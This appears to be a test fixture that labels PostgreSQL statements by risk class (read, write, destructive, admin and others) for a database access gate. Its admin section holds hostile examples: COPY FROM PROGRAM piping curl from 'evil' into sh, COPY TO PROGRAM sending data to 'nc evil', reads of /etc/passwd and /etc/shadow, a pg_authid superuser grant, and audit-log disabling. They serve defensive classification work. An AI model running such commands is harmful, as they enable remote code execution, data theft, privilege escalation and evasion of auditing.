## One or more statements per class, with the objects they touch.
## Format: `== classes | objects` then the statement; `##` lines are comments.

## ---- read
== read | public.customers
SELECT * FROM customers
== read | public.customers
select id, name from customers where id = 42
== read | sales.orders
SELECT count(*) FROM sales.orders WHERE placed_at > now() - interval '1 day'
== read | public.orders public.customers
SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.total > 100
== read | public.customers
SELECT * FROM customers FOR UPDATE
== read | public.customers
SELECT * FROM customers WHERE id = 1 FOR SHARE SKIP LOCKED
== read | public.customers
SELECT * FROM ONLY customers
== read | public.t
SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC LIMIT 10 OFFSET 5
== read | public.a public.b
SELECT x FROM a UNION ALL SELECT x FROM b
== read | public.a public.b
SELECT x FROM a EXCEPT SELECT x FROM b
== read |
SELECT 1
== read |
VALUES (1, 'a'), (2, 'b')
== read |
SELECT now(), current_user, version()
== read | public.t
SELECT a FROM t WHERE b IN (SELECT b FROM t WHERE c IS NOT NULL)
== read | public.t public.u
SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)
== read | public.t
WITH x AS (SELECT * FROM t) SELECT * FROM x
== read | public.tree
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r, tree
== read | public.events
SELECT date_trunc('day', at) AS d, count(*) FROM events GROUP BY 1 HAVING count(*) > 3 ORDER BY 1
== read | public.t
SELECT a, row_number() OVER (PARTITION BY b ORDER BY c) FROM t
== read |
SELECT * FROM generate_series(1, 10) AS g(i)
== read | public.t
SELECT t.* FROM t, LATERAL unnest(t.tags) AS tag
== read | public.docs
SELECT data->>'name', data #> '{a,b}' FROM docs WHERE data @> '{"x": 1}'
== read | public.t
SELECT a::text, CAST(b AS int), c::numeric(10,2) FROM t
== read | public.t
SELECT * FROM t WHERE name ILIKE '%bob%' AND age BETWEEN 18 AND 65
== read |
EXPLAIN SELECT 1
== read | public.t
EXPLAIN (COSTS OFF, FORMAT JSON) SELECT * FROM t
== read | public.t
EXPLAIN (ANALYZE) SELECT * FROM t
== read | public.t
EXPLAIN ANALYZE VERBOSE SELECT * FROM t
== read | public.t
COPY t TO STDOUT
== read | public.t
COPY t TO STDOUT WITH (FORMAT csv, HEADER)
== read | public.t
COPY (SELECT * FROM t WHERE a > 1) TO STDOUT
== read | public.t
DECLARE c CURSOR FOR SELECT * FROM t
== read |
FETCH 10 FROM c
== read | public.t
SELECT * FROM public.t
== read | other.t
SELECT * FROM mydb.other.t
== read | public.MixedCase
SELECT * FROM "MixedCase"
== read | public.mixedcase
SELECT * FROM MixedCase
== read | pg_catalog.pg_class
SELECT relname FROM pg_class
== read | pg_catalog.pg_stat_activity
SELECT pid, query FROM pg_stat_activity
== read | information_schema.tables
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'

## ---- session
== session |
BEGIN
== session |
BEGIN ISOLATION LEVEL REPEATABLE READ
== session |
START TRANSACTION READ ONLY
== session |
COMMIT
== session |
END
== session |
ROLLBACK
== session |
ABORT
== session |
SAVEPOINT sp1
== session |
RELEASE SAVEPOINT sp1
== session |
ROLLBACK TO SAVEPOINT sp1
== session |
COMMIT AND CHAIN
== session |
SET search_path TO app, public
== session |
SET application_name = 'psql'
== session |
SET DateStyle TO ISO, MDY
== session |
SET extra_float_digits = 3
== session |
SET statement_timeout = '5s'
== session |
SET LOCAL lock_timeout = 1000
== session |
SET client_encoding TO 'UTF8'
== session |
SET NAMES 'UTF8'
== session |
SET TIME ZONE 'UTC'
== session |
SET TimeZone = 'Europe/Berlin'
== session |
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
== session |
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED
== session |
SET CONSTRAINTS ALL DEFERRED
== session |
SET standard_conforming_strings = on
== session |
RESET statement_timeout
== session |
RESET search_path
== session, read |
SHOW search_path
== session, read |
SHOW TRANSACTION ISOLATION LEVEL
== session, read |
SHOW ALL
== session |
DEALLOCATE ALL
== session |
DEALLOCATE PREPARE stmt1
== session |
DISCARD PLANS
== session |
DISCARD TEMP
== session |
LISTEN events
== session |
UNLISTEN *
== session |
CLOSE c
== session |
PREPARE TRANSACTION 'tx1'
== session |
COMMIT PREPARED 'tx1'

## ---- write
== write | public.customers
INSERT INTO customers (name, email) VALUES ('Ann', 'ann@example.com')
== write | public.customers
INSERT INTO customers (name, email) VALUES ($1, $2) RETURNING id
== write, read | public.archive public.orders
INSERT INTO archive SELECT * FROM orders WHERE placed_at < '2020-01-01'
== write | public.counters
INSERT INTO counters (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + excluded.v
== write | public.t
INSERT INTO t DEFAULT VALUES
== write | public.customers
UPDATE customers SET email = 'x@example.com' WHERE id = 7
== write | public.accounts
UPDATE accounts SET balance = balance - 10 WHERE id = $1 RETURNING balance
== write, read | public.orders public.customers
UPDATE orders o SET status = 'vip' FROM customers c WHERE c.id = o.customer_id AND c.vip
== write | public.sessions
DELETE FROM sessions WHERE expires_at < now()
== write, read | public.t public.u
DELETE FROM t USING u WHERE t.id = u.id
== write | public.t
DELETE FROM ONLY t WHERE id = 3
== write, read | public.t public.blocked
DELETE FROM t WHERE user_id IN (SELECT id FROM blocked)
== write | public.t
COPY t FROM STDIN
== write | public.t
COPY t (a, b) FROM STDIN WITH (FORMAT csv)
== write, read | public.target public.source
MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)
== write, read | public.target public.source
MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE
== write | public.mv
REFRESH MATERIALIZED VIEW mv
== write | public.t
VACUUM t
== write | public.t
VACUUM (VERBOSE, ANALYZE) t
== write | public.t
ANALYZE t
== write |
NOTIFY events, 'hello'

## ---- bulk-write
== write, bulk-write | public.orders
DELETE FROM orders
== write, bulk-write | public.orders
DELETE FROM ONLY orders
== write, bulk-write | public.orders
delete from orders returning *
== write, bulk-write, read | public.t public.u
DELETE FROM t USING u
== write, bulk-write | public.accounts
UPDATE accounts SET balance = 0
== write, bulk-write | public.accounts
UPDATE ONLY accounts SET balance = 0
== write, bulk-write, read | public.t public.u
UPDATE t SET a = u.a FROM u
== write, bulk-write, read | public.t
UPDATE t SET a = (SELECT max(a) FROM t)
== write, bulk-write, destructive | public.orders
TRUNCATE orders
== write, bulk-write, destructive | public.a public.b
TRUNCATE TABLE a, b RESTART IDENTITY CASCADE
== write, bulk-write, read | public.target public.source
MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED THEN DELETE
== read, write, bulk-write | public.t
WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
== read, write, bulk-write | public.t
WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u
== read, write, bulk-write | public.t
EXPLAIN ANALYZE DELETE FROM t
== read, write, bulk-write | public.t
EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1
== read, write, bulk-write | public.t
EXPLAIN (ANALYZE TRUE) DELETE FROM t

## ---- ddl
== ddl | public.t
CREATE TABLE t (id serial PRIMARY KEY, name text NOT NULL)
== ddl | public.t
CREATE TABLE IF NOT EXISTS t (a int)
== ddl | pg_temp.scratch
CREATE TEMP TABLE scratch (a int)
== ddl, read | public.t2 public.t
CREATE TABLE t2 AS SELECT * FROM t
== ddl, read | public.t2 public.t
SELECT * INTO t2 FROM t
== ddl, read | pg_temp.t2 public.t
SELECT a INTO TEMP t2 FROM t
== ddl | public.t
ALTER TABLE t ADD COLUMN c text
== ddl | public.t
ALTER TABLE t RENAME COLUMN a TO b
== ddl | public.t
CREATE INDEX t_a ON t (a)
== ddl | public.t
CREATE UNIQUE INDEX CONCURRENTLY t_b ON t (b)
== ddl, read | public.v public.t
CREATE VIEW v AS SELECT * FROM t
== ddl, read | public.v public.t
CREATE OR REPLACE VIEW v AS SELECT a FROM t WHERE a > 0
== ddl |
CREATE SCHEMA app
== ddl |
CREATE SEQUENCE s START 100
== ddl |
CREATE TYPE mood AS ENUM ('sad', 'ok', 'happy')
== ddl |
CREATE DOMAIN posint AS integer CHECK (VALUE > 0)
== ddl | public.t
COMMENT ON TABLE t IS 'customers'
== ddl | public.t
COMMENT ON COLUMN t.a IS 'DROP TABLE x'
== ddl |
CREATE DATABASE shop
== ddl | public.t
CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()
== ddl | public.t
CREATE POLICY p ON t USING (owner = current_user)
== ddl |
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db', dbname 'x')

## ---- destructive
== ddl, destructive | public.t
DROP TABLE t
== ddl, destructive | public.t app.u
DROP TABLE IF EXISTS t, app.u CASCADE
== ddl, destructive | public.v
DROP VIEW v
== ddl, destructive |
DROP SCHEMA app CASCADE
== ddl, destructive |
DROP DATABASE shop
== ddl, destructive |
DROP INDEX t_a
== ddl, destructive |
DROP FUNCTION f(int)
== ddl, destructive |
DROP EXTENSION pgcrypto
== ddl, destructive |
DROP TYPE mood
== ddl, destructive | public.s
DROP SEQUENCE s
== dcl, destructive |
DROP ROLE alice
== dcl, destructive |
DROP USER bob

## ---- dcl
== dcl | public.t
GRANT SELECT ON t TO analyst
== dcl |
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO admin
== dcl |
GRANT admin TO alice
== dcl | public.t
REVOKE INSERT ON t FROM PUBLIC
== dcl |
REVOKE admin FROM alice
== dcl |
CREATE ROLE reporting NOLOGIN
== dcl |
CREATE USER carol WITH PASSWORD 'x'
== dcl |
ALTER ROLE carol SUPERUSER
== dcl |
ALTER USER carol WITH PASSWORD 'y'
== dcl |
ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting
== dcl |
SET ROLE postgres
== dcl |
SET SESSION ROLE postgres
== dcl |
SET LOCAL ROLE postgres
== dcl |
SET role = 'postgres'
== dcl |
SET SESSION AUTHORIZATION postgres
== dcl |
SET SESSION AUTHORIZATION DEFAULT
== dcl |
RESET ROLE
== dcl |
RESET SESSION AUTHORIZATION
== dcl |
RESET ALL
== dcl |
DISCARD ALL
== ddl, dcl | public.t
ALTER TABLE t OWNER TO mallory
== ddl, dcl | public.t
ALTER TABLE t DISABLE ROW LEVEL SECURITY

## ---- admin
== admin |
ALTER SYSTEM SET log_statement = 'none'
== admin |
ALTER SYSTEM RESET ALL
== admin |
SET log_statement = 'none'
== admin |
SET log_min_duration_statement = -1
== admin |
SET session_replication_role = replica
== admin |
SET gatekit.user = 'someone'
== admin |
SET pgaudit.log = 'none'
== admin |
SET client_encoding = 'SJIS'
== admin |
SET NAMES 'GBK'
== admin |
SET standard_conforming_strings = off
== admin |
RESET log_statement
== admin, read | public.t /tmp/t.csv
COPY t TO '/tmp/t.csv'
== admin, write | public.t /etc/passwd
COPY t FROM '/etc/passwd'
== admin, write | public.t
COPY t FROM PROGRAM 'curl http://evil/x | sh'
== admin, read | public.t
COPY (SELECT * FROM t) TO PROGRAM 'nc evil 9000'
== admin |
LOAD 'auto_explain'
== admin, ddl |
CREATE EXTENSION dblink
== admin, ddl |
CREATE EXTENSION IF NOT EXISTS adminpack SCHEMA pg_catalog
== admin | public.t
VACUUM FULL t
== admin | public.t
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
== admin | public.t
LOCK t
== read, admin | /etc/passwd
SELECT pg_read_file('/etc/passwd')
== read, admin | /etc/shadow
SELECT pg_catalog.pg_read_binary_file('/etc/shadow', 0, 100)
== read, admin |
SELECT * FROM pg_ls_dir('.')
== read, admin | /tmp/x
SELECT lo_import('/tmp/x')
== read, admin | /tmp/out
SELECT lo_export(16409, '/tmp/out')
== read, admin | pg_catalog.pg_stat_activity
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'bob'
== read, admin |
SELECT pg_cancel_backend(1234)
== read, admin |
SELECT pg_reload_conf()
== read, admin, dcl |
SELECT set_config('role', 'postgres', false)
== read, admin |
SELECT set_config('gatekit.user', 'alice', false)
== read, admin |
SELECT set_config('log_statement', 'none', true)
== read, admin |
SELECT set_config($1, $2, false)
== read |
SELECT set_config('application_name', 'x', false)
== read, admin, procedural |
SELECT * FROM dblink('dbname=postgres', 'select 1') AS t(a int)
== read, admin, procedural, write, bulk-write | public.t
SELECT dblink_exec('dbname=postgres', 'DELETE FROM t')
== write, admin | pg_catalog.pg_settings
UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'
== write, admin | pg_catalog.pg_authid
UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'me'

## ---- procedural
== procedural |
DO $$ BEGIN PERFORM 1; END $$
== procedural |
DO LANGUAGE plpgsql 'BEGIN NULL; END'
== procedural |
CALL refresh_all()
== procedural |
CALL app.do_it(1, 'x')
== procedural, read | public.t
PREPARE q(int) AS SELECT * FROM t WHERE id = $1
== procedural, write, bulk-write | public.t
PREPARE wipe AS DELETE FROM t
== procedural |
EXECUTE q(1)
== ddl, procedural |
CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$
== ddl, procedural |
CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $body$ BEGIN RETURN NEW; END $body$
== ddl, procedural |
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$
== read, procedural |
SELECT query_to_xml('select 1', true, true, '')
== read, procedural, write, bulk-write | public.t
SELECT query_to_xml('delete from t', true, true, '')
== read, procedural | public.apod
SELECT * FROM ts_stat('SELECT vector FROM apod')

## ---- scripts: the union of their statements
== session, write | public.accounts
BEGIN; UPDATE accounts SET balance = balance - 1 WHERE id = 1; COMMIT
== read, write, bulk-write | public.a public.b
SELECT * FROM a; DELETE FROM b
== session, read, ddl, destructive | public.t
BEGIN; SELECT 1; DROP TABLE t; COMMIT;
== session, read | s1.t
SET search_path TO s1; SELECT * FROM t
== read, dcl |
SET ROLE admin; SELECT 1
